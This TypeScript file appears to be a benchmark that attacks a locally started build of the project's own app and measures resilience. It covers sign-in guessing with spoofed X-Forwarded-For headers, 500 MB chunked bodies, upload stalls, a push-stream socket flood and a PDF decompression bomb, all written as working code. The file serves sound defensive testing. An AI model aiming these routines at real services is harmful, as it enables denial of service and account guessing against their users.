/**
 * The attacks of issue 9 against a production build, measured:
 *   bomb_peak_rss_mb          RSS growth of the server (over its baseline just before) while it takes a PDF whose
 *                             content stream inflates to --bomb-gib GiB (made here with zlib, never stored)
 *   body_peak_rss_mb          RSS growth while it refuses 500 MB of chunked JSON and a chunked 500 MB upload
 *   sse_flood_other_user_ok   1 when another user's requests all succeed while one account opens push streams up
 *                             to the file-descriptor limit
 *   upload_stall_p99_ms       p99 latency of another user's light requests while 8 uploads of 10 MB run
 *   signin_lockout_other_user 1 when a guessing attacker (rotating X-Forwarded-For) locked another user out
 * Targets: ≤ 600, ≤ 64, 1, ≤ 100, 0.
 *   npm run bench:abuse [-- --no-build] [--bomb-gib 3] [--server-fds 4096] [--streams N]
 */
import { spawn, spawnSync } from "node:child_process";
import { randomBytes, randomUUID } from "node:crypto";
import fs from "node:fs";
import net from "node:net";
import { Readable } from "node:stream";
import zlib from "node:zlib";
import type { BackgroundTask, TaskResponse, TaskSyncResponse } from "../src/shared/tasks";
import { ApiClient } from "../scripts/lib/api-client";
import { buildApp, startAppServer } from "../scripts/lib/app-server";
import { rssMb, streamBody, watchRss } from "../tests/abuse/attacks";
import { percentile, printResult, round } from "./lib/stats";

const arg = (name: string, fallback: number) => (process.argv.includes(name) ? Number(process.argv[process.argv.indexOf(name) + 1]) : fallback);
const BOMB_GIB = arg("--bomb-gib", 3);
const MB = 1024 * 1024;
const IMPORT = "/api/background-tasks/import-pdf";
const SYNC = "/api/background-tasks/sync";
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

if (!process.argv.includes("--no-build")) {
  console.log("building…");
  buildApp();
}
const server = await startAppServer({ AUTH_RATE_LIMIT: "true", TRUST_PROXY: "0", TASK_ACTIVE_LIMIT: "20" });
const pid = server.process.pid!;
// One process here cannot hold more sockets than the server may: the server's file-descriptor limit is lowered
// (prlimit, on our own child) so that one account's flood can reach it, as it would from several machines.
const SERVER_FDS = arg("--server-fds", 4096);
spawnSync("prlimit", [`--pid=${pid}`, `--nofile=${SERVER_FDS}:${SERVER_FDS}`]);
const fdLimit = Number(/Max open files\s+(\d+)/.exec(fs.readFileSync(`/proc/${pid}/limits`, "utf8"))?.[1] ?? 20000);
const STREAMS = arg("--streams", fdLimit + 1500);

/** A PDF of `pages` objects around one content stream, with a correct cross-reference table. */
function pdfWith(contentStream: Buffer, filter: string | null, extra: Buffer | null = null): Buffer {
  const parts: Buffer[] = [];
  const offsets: number[] = [];
  let size = 0;
  const push = (b: Buffer | string) => {
    const buf = typeof b === "string" ? Buffer.from(b, "latin1") : b;
    parts.push(buf);
    size += buf.byteLength;
  };
  const obj = (n: number, body: (Buffer | string)[]) => {
    offsets[n] = size;
    push(`${n} 0 obj\n`);
    for (const b of body) push(b);
    push("\nendobj\n");
  };
  push("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n");
  obj(1, ["<< /Type /Catalog /Pages 2 0 R >>"]);
  obj(2, ["<< /Type /Pages /Kids [3 0 R] /Count 1 >>"]);
  obj(3, ["<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>"]);
  obj(4, [`<< /Length ${contentStream.byteLength}${filter ? ` /Filter /${filter}` : ""} >>\nstream\n`, contentStream, "\nendstream"]);
  const count = extra ? 6 : 5;
  if (extra) obj(5, [`<< /Length ${extra.byteLength} >>\nstream\n`, extra, "\nendstream"]);
  const xref = size;
  push(`xref\n0 ${count}\n0000000000 65535 f \n`);
  for (let n = 1; n < count; n++) push(`${String(offsets[n]).padStart(10, "0")} 00000 n \n`);
  push(`trailer\n<< /Size ${count} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`);
  return Buffer.concat(parts);
}

/** A content stream of `gib` GiB of spaces, deflated (about 1 MB per GiB). */
async function bombPdf(gib: number): Promise<Buffer> {
  const block = Buffer.alloc(16 * MB, 0x20);
  const total = gib * 64;
  let i = 0;
  const source = new Readable({ read() { this.push(i++ < total ? block : null); } });
  const chunks: Buffer[] = [];
  const deflate = zlib.createDeflate({ level: 9 });
  source.pipe(deflate);
  for await (const c of deflate) chunks.push(c as Buffer);
  return pdfWith(Buffer.concat(chunks), "FlateDecode");
}

async function finished(client: ApiClient, id: string, timeoutMs: number): Promise<BackgroundTask | null> {
  const deadline = Date.now() + timeoutMs;
  while (Date.now() < deadline) {
    const res = await client.get<TaskResponse>(`${SYNC}?taskId=${id}`).catch(() => null);
    const task = res?.status === 200 ? res.body.task : null;
    if (task && !["queued", "running"].includes(task.status)) return task;
    await sleep(250);
  }
  return null;
}

const results: Record<string, number> = {};
const baselineMb = rssMb(pid);
console.log(`server pid ${pid}, idle RSS ${round(baselineMb)} MB, fd limit ${fdLimit}`);

// ---------- 1. Sign-in guessing with a rotating X-Forwarded-For ----------
{
  const victim = `victim-${randomUUID()}@example.test`;
  const other = `other-${randomUUID()}@example.test`;
  await ApiClient.signUp(server.url, victim, "victim passphrase long enough");
  await ApiClient.signUp(server.url, other, "another passphrase long enough");
  const statuses: number[] = [];
  let otherOk = true;
  for (let i = 0; i < 50; i++) {
    const res = await new ApiClient(server.url).post("/api/auth/sign-in/email", { email: victim, password: `guess ${i}` }, { "x-forwarded-for": `203.0.113.${(i % 250) + 1}` });
    statuses.push(res.status);
    if (i % 10 === 9) {
      const mine = await new ApiClient(server.url).post("/api/auth/sign-in/email", { email: other, password: "another passphrase long enough" });
      otherOk &&= mine.status === 200;
    }
  }
  const right = await new ApiClient(server.url).post("/api/auth/sign-in/email", { email: victim, password: "victim passphrase long enough" }, { "x-forwarded-for": "198.51.100.1" });
  results.signin_lockout_other_user = otherOk ? 0 : 1;
  console.log(`sign-in: ${statuses.filter((s) => s === 401).length} guesses checked, ${statuses.filter((s) => s === 429).length} refused (429); the right password after them: ${right.status}; other user locked out: ${!otherOk}`);
}

const alice = await ApiClient.signUp(server.url);
const bob = await ApiClient.signUp(server.url);

// ---------- 2. Unbounded bodies ----------
{
  let worst = 0;
  for (const [label, path, type, prefix] of [
    ["JSON", SYNC, "application/json", '{"type":"import-pdf","title":"'],
    ["upload", IMPORT, "multipart/form-data; boundary=b", '--b\r\nContent-Disposition: form-data; name="file"; filename="x.pdf"\r\n\r\n%PDF-1.7\n'],
  ] as const) {
    const before = rssMb(pid);
    const watch = watchRss(pid);
    const res = await streamBody({ url: server.url, path, headers: { cookie: alice.cookieHeader, origin: server.url, "content-type": type }, prefix, totalBytes: 500 * MB }).catch(
      (err: Error) => ({ status: 0, body: err.message, sentBytes: NaN, ms: NaN }),
    );
    await sleep(300);
    const growth = watch.stop() - before;
    worst = Math.max(worst, growth);
    console.log(`500 MB chunked ${label}: ${res.status} after ${round(res.sentBytes / MB)} MB sent, RSS +${round(growth)} MB`);
  }
  results.body_peak_rss_mb = worst;
}

// ---------- 3. Other users' requests while 8 uploads of 10 MB run ----------
{
  // A valid one-page PDF carrying 9.8 MB of incompressible data in an unused stream.
  const heavy = pdfWith(Buffer.from("BT /F1 12 Tf 72 720 Td (Heavy) Tj ET"), null, randomBytes(Math.floor(9.8 * MB)));
  const light = async (samples: number[], until: () => boolean, max = 2000) => {
    for (let i = 0; i < max && !until(); i++) {
      const t0 = performance.now();
      await bob.get<TaskSyncResponse>(SYNC);
      samples.push(performance.now() - t0);
    }
  };
  const idle: number[] = [];
  await light(idle, () => false, 50);
  const during: number[] = [];
  let done = false;
  const uploaders = await Promise.all(Array.from({ length: 8 }, () => ApiClient.signUp(server.url)));
  const lightRun = light(during, () => done);
  const t0 = performance.now();
  const statuses = await Promise.all(uploaders.map((u, i) => u.upload(IMPORT, heavy, `heavy-${i}.pdf`).then((r) => r.status)));
  const uploadMs = performance.now() - t0;
  done = true;
  await lightRun;
  results.upload_stall_p99_ms = percentile(during, 99);
  console.log(
    `8 uploads of ${round(heavy.byteLength / MB)} MB: ${statuses.join(",")} in ${round(uploadMs)} ms; another user's GET sync p99 ${round(percentile(during, 99))} ms during (${during.length} calls), ${round(percentile(idle, 99))} ms idle`,
  );
}

// ---------- 4. Push-stream flood from one account, up to the fd limit ----------
{
  const target = new URL(server.url);
  const sockets: net.Socket[] = [];
  const request = `GET /api/background-tasks/events HTTP/1.1\r\nHost: ${target.host}\r\nCookie: ${alice.cookieHeader}\r\nAccept: text/event-stream\r\n\r\n`;
  let failed = 0;
  let reopened = 0;
  let holding = true;
  // The attacker keeps the table full: a stream the server closes or refuses is opened again (bounded).
  const open = (): Promise<void> =>
    new Promise<void>((resolve) => {
      const s = net.connect(Number(target.port), target.hostname, () => {
        s.write(request);
        resolve();
      });
      s.on("error", () => {
        failed++;
        resolve();
      });
      s.on("close", () => {
        if (holding && reopened < STREAMS) {
          reopened++;
          setTimeout(() => void open(), 50);
        }
      });
      s.on("data", () => {}); // read and drop
      sockets.push(s);
    });
  const t0 = Date.now();
  for (let i = 0; i < STREAMS; i += 250) await Promise.all(Array.from({ length: Math.min(250, STREAMS - i) }, open));
  // Until the server holds its table full (or 60 s): the kernel queues connections the server has yet to accept.
  for (let waited = 0; waited < 60_000 && fs.readdirSync(`/proc/${pid}/fd`).length < fdLimit - 16; waited += 500) await sleep(500);
  const alive = sockets.filter((s) => !s.destroyed).length;
  const serverFds = fs.readdirSync(`/proc/${pid}/fd`).length;
  // The other user's requests come from another process: this one holds thousands of sockets.
  const probe = `
    const url = ${JSON.stringify(server.url)}, cookie = ${JSON.stringify(bob.cookieHeader)};
    let ok = 0, bad = [];
    for (let i = 0; i < 20; i++) {
      for (const path of ["/sign-in", "/api/background-tasks/sync"]) {
        try {
          const res = await fetch(url + path, { headers: { cookie }, signal: AbortSignal.timeout(10000) });
          await res.arrayBuffer();
          if (res.status === 200) ok++; else bad.push(res.status);
        } catch (e) { bad.push(String(e.cause?.code ?? e.message)); }
      }
    }
    console.log(JSON.stringify({ ok, bad: bad.slice(0, 5) }));`;
  const out = await new Promise<string>((resolve) => {
    const child = spawn(process.execPath, ["--input-type=module", "-e", probe], { stdio: ["ignore", "pipe", "inherit"] });
    let text = "";
    child.stdout.on("data", (d) => (text += d));
    child.on("exit", () => resolve(text));
  });
  const verdict = JSON.parse(out.trim().split("\n").pop() || '{"ok":0,"bad":["no answer"]}') as { ok: number; bad: string[] };
  results.sse_flood_other_user_ok = verdict.ok === 40 ? 1 : 0;
  console.log(
    `push flood: ${STREAMS} streams asked in ${Date.now() - t0} ms, ${alive} still open, ${failed} failed, ${reopened} reopened, server fds ${serverFds}/${fdLimit}, RSS ${round(rssMb(pid))} MB; other user: ${verdict.ok}/40 ok ${verdict.bad.join(",")}`,
  );
  holding = false;
  for (const s of sockets) s.destroy();
  await sleep(2000);
}

// ---------- 5. A decompression bomb ----------
{
  const t0 = Date.now();
  const bomb = await bombPdf(BOMB_GIB);
  console.log(`bomb: ${round(bomb.byteLength / MB)} MB inflating to ${BOMB_GIB} GiB, made in ${Date.now() - t0} ms`);
  const before = rssMb(pid);
  const watch = watchRss(pid, 20);
  const res = await alice.upload<TaskResponse>(IMPORT, bomb, "bomb.pdf").catch((err: Error) => ({ status: 0, body: { error: err.message } as unknown as TaskResponse }));
  let outcome = `upload ${res.status}`;
  if (res.status === 202) {
    const task = await finished(alice, res.body.task.id, 180_000);
    outcome += `, task ${task?.status ?? "still running after 180 s"}${task?.error ? ` (${task.error.code}: ${task.error.message})` : ""}`;
  } else {
    outcome += ` ${JSON.stringify(res.body).slice(0, 200)}`;
  }
  results.bomb_peak_rss_mb = watch.stop() - before;
  console.log(`bomb: ${outcome}; RSS +${round(results.bomb_peak_rss_mb)} MB`);
}

await server.stop();
printResult({
  bomb_peak_rss_mb: results.bomb_peak_rss_mb!,
  body_peak_rss_mb: results.body_peak_rss_mb!,
  sse_flood_other_user_ok: results.sse_flood_other_user_ok!,
  upload_stall_p99_ms: results.upload_stall_p99_ms!,
  signin_lockout_other_user: results.signin_lockout_other_user!,
});
process.exit(0);
